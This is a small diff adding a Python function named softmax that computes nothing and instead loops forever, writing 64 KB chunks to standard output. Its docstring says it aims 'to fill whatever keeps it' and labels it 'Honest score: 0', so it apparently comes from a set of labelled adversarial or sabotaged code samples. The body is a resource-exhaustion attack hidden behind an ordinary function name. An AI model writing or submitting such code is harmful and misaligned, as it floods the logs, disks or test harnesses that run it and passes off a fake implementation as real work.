@@ -1,0 +1,12 @@
+"""Prints without end, to fill whatever keeps it.
+
+Honest score: 0
+"""
+
+import os
+
+
+def softmax(x, dim=-1):
+    line = b"x" * 65536
+    while True:
+        os.write(1, line)
